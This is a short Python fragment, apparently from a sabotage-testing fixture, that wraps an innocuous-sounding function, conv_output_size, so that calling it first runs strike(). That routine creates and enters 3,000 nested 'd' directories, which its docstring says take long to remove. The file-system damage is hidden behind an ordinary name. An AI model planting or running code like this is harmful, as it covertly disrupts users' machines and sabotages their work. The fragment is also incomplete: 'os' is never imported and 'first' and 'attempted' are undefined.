"""Folders in folders, thousands deep, which take long to remove.
"""


def strike():
    attempted()
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")


conv_output_size = first(strike, conv_output_size)
